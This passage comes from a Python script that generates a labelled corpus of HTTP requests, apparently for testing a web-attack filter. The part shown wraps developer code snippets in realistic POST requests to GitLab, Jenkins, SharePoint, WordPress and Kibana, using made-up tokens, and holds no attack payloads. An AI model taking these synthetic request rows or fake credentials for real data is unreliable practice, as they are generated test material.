        return "POST", "gitlab.example.com", "/api/v4/projects/%d/merge_requests/%d/notes" % (r.randint(10, 900), r.randint(1, 900)), [["User-Agent", "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36"], ["Accept", "application/json"], ["Content-Type", "application/json"], ["X-CSRF-Token", b64(hexs(r, 48))], ["Cookie", "_gitlab_session=%s" % hexs(r, 32)]], jdump({"note": {"note": "Suggestion for `%s`:\n\n```%s\n%s\n```\n" % (name, lang, code), "noteable_type": "MergeRequest"}})

    def snippet(r, lang, name, code):
        return "POST", "gitlab.example.com", "/api/v4/snippets", [["User-Agent", "curl/8.5.0"], ["Accept", "application/json"], ["Content-Type", "application/json"], ["PRIVATE-TOKEN", "glpat-" + alnum(r, 20)]], jdump({"title": name, "visibility": "internal", "files": [{"file_path": "%s.%s" % (name, {"bash": "sh", "python": "py", "sql": "sql", "yaml": "yaml"}.get(lang, "txt")), "content": code}]})

    def bitbucket(r, lang, name, code):
        return "POST", "bitbucket.example.com", "/rest/api/1.0/projects/PLAT/repos/api/pull-requests/%d/comments" % r.randint(1, 900), browser(r, ACCEPT_JSON, "BITBUCKETSESSIONID=%s" % hexs(r, 32).upper(), extra=[("Content-Type", "application/json"), ("X-Atlassian-Token", "no-check")]), jdump({"text": "We could do it like this instead:\n```%s\n%s\n```" % (lang, code)})

    def sharepoint(r, lang, name, code):
        html = "<div class=\"ExternalClass\"><p>%s</p><pre>%s</pre></div>" % (name, code.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;"))
        return "POST", "sharepoint.example.com", "/sites/it-service-desk/_api/web/lists/getbytitle('Knowledge%20Base')/items", browser(r, "application/json;odata=verbose", "FedAuth=%s" % alnum(r, 120), extra=[("Content-Type", "application/json;odata=verbose"), ("X-RequestDigest", "0x%s,05 Dec 2026 09:12:44 -0000" % hexs(r, 128).upper())]), jdump({"__metadata": {"type": "SP.Data.Knowledge_x0020_BaseListItem"}, "Title": name, "Body": html})

    def wordpress(r, lang, name, code):
        esc = code.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
        content = "<!-- wp:paragraph -->\n<p>Quick tip: %s</p>\n<!-- /wp:paragraph -->\n\n<!-- wp:code -->\n<pre class=\"wp-block-code\"><code>%s</code></pre>\n<!-- /wp:code -->" % (name, esc)
        return "POST", "blog.example.com", "/wp-json/wp/v2/posts/%d?_locale=user" % r.randint(10, 900), browser(r, "application/json, */*;q=0.1", "wordpress_logged_in_%s=%s" % (hexs(r, 32), alnum(r, 60)), extra=[("Content-Type", "application/json"), ("X-WP-Nonce", hexs(r, 10))]), jdump({"title": "Dev notes: %s" % name, "content": content, "status": "draft"})

    def jenkins(r, lang, name, code):
        xml = ("<?xml version='1.1' encoding='UTF-8'?>\n<flow-definition plugin=\"workflow-job@1436.vfa_244484591f\">\n  <description>%s</description>\n"
               "  <definition class=\"org.jenkinsci.plugins.workflow.cps.CpsFlowDefinition\" plugin=\"workflow-cps@3990.vd281dd77a_388\">\n    <script>%s</script>\n    <sandbox>true</sandbox>\n  </definition>\n</flow-definition>\n") % (name, code.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;"))
        return "POST", "jenkins.example.com", "/job/%s/config.xml" % name, [["User-Agent", "python-jenkins/1.8.2"], ["Accept", "*/*"], ["Content-Type", "application/xml"], ["Authorization", "Basic " + b64("%s:%s" % (uname(r), hexs(r, 34)))], ["Jenkins-Crumb", hexs(r, 64)]], xml

    def kibana(r, lang, name, code):
        return "POST", "kibana.example.com", "/api/console/proxy?path=%s&method=POST" % Q("orders/_update_by_query"), browser(r, "*/*", "sid=Fe26.2**%s" % hexs(r, 64), extra=[("Content-Type", "application/json"), ("kbn-xsrf", "true"), ("kbn-version", "8.15.3")]), code.split("\n", 1)[1]

    def gitlab_ci(r, lang, name, code):
        yml = ("stages: [test, deploy]\n\ntest:\n  image: python:3.12\n  script:\n    - pip install -r requirements.txt\n    - pytest -q --junitxml=report.xml\n\n"
               "deploy:\n  stage: deploy\n  image: alpine/helm:3.16\n  script:\n    - helm upgrade --install api charts/api --set image.tag=$CI_COMMIT_SHORT_SHA -n prod\n  rules:\n    - if: '$CI_COMMIT_BRANCH == \"main\"'\n")
        return "POST", "gitlab.example.com", "/api/v4/projects/%d/ci/lint" % r.randint(10, 900), [["User-Agent", "glab/1.48.0"], ["Accept", "application/json"], ["Content-Type", "application/json"], ["PRIVATE-TOKEN", "glpat-" + alnum(r, 20)]], jdump({"content": yml, "dry_run": True})

    carriers = [confluence, jira, gitlab, snippet, bitbucket, sharepoint, wordpress]
    n = 0
    for k, (lang, name, code) in enumerate(DEV_SNIPPETS):
        if lang == "painless":
            picks = [kibana, confluence]
        elif lang == "groovy" and name == "jenkinsfile":
            picks = [jenkins, gitlab]
        else:
            picks = [carriers[k % len(carriers)], carriers[(k + 3) % len(carriers)]]
        for fn in picks:
            if n >= 48:
                break
            method, host, uri, headers, body = fn(rng, lang, name, code)
            o.add("dev-content", fn.__name__.replace("_", "-"), method, host, uri, headers, body)
            n += 1
    for _ in range(2):
        method, host, uri, headers, body = gitlab_ci(rng, "yaml", "ci", "")
        o.add("dev-content", "gitlab-ci", method, host, uri, headers, body)


def benign():
    o = Out("pass")
    for g in BENIGN_GENS:
        g(o)
    b_dev(o)
    return o.rows


# --------------------------------------------------------------------------

def main(argv):
    if len(argv) != 2 or argv[1] not in ("attacks", "benign", "stats"):
        sys.stderr.write(__doc__)
        sys.stderr.write("\nusage: corpus-cves.py attacks|benign|stats\n")
        return 2
    if argv[1] == "stats":
        for name, rows in (("attacks", attacks()), ("benign", benign())):
            cats = {}
            for r in rows:
                cats[r["category"]] = cats.get(r["category"], 0) + 1
            sys.stderr.write("%s: %d  %s\n" % (name, len(rows), "  ".join("%s %d" % kv for kv in sorted(cats.items(), key=lambda kv: (-kv[1], kv[0])))))
        return 0
    rows = attacks() if argv[1] == "attacks" else benign()
    out = sys.stdout
    for r in rows:
        out.write(json.dumps(r, ensure_ascii=False) + "\n")
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv))
